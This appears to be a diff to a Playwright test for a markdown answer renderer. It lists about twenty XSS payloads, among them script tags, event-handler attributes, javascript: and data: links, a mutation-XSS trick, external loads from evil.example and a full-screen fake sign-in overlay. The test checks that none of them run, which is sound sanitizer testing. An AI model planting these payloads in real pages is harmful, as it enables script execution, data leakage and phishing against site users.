@@ -37,26 +37,45 @@ const shown = (page: Page) => page.locator(".markdown").innerText();
 
 const ATTACKS = `
 <script>alert(1)</script>
+
 <img src=x onerror=alert(2)>
+
 <svg onload=alert(3)><script>alert(4)</script></svg>
+
 <svg><animate onbegin=alert(5) attributeName=x dur=1s>
+
 <iframe srcdoc="<script>alert(6)</script>"></iframe>
+
 <a href="javascript:alert(7)">html link</a>
+
 [md link](javascript:alert(8)) [data link](data:text/html,<script>alert(9)</script>) [vb](vbscript:alert(10))
+
 [spaced](java%0ascript:alert(11)) <javascript:alert(12)>
+
 <math><mtext></form><form><mglyph><style></math><img src onerror=alert(13)>
+
 <details open ontoggle=alert(14)>
+
 <input autofocus onfocus=alert(15)>
+
 <style>@import 'https://evil.example/x.css';</style>
+
 <form action=https://evil.example><button>Send</button></form>
+
 ![remote](https://evil.example/pixel.png)
+
 ![x](x" onerror="alert(16))
+
 <b onclick=alert(17) style="position:fixed;inset:0" class="sign-in" id="message">bold</b>
+
 \`\`\`html"><img src=x onerror=alert(18)>
 <img src=x onerror=alert(19)>
 \`\`\`
+
 [x]: javascript:alert(20)
+
 [reference][x]
+
 `;
 
 test("nothing in an answer runs, loads or dresses up as the page", async () => {
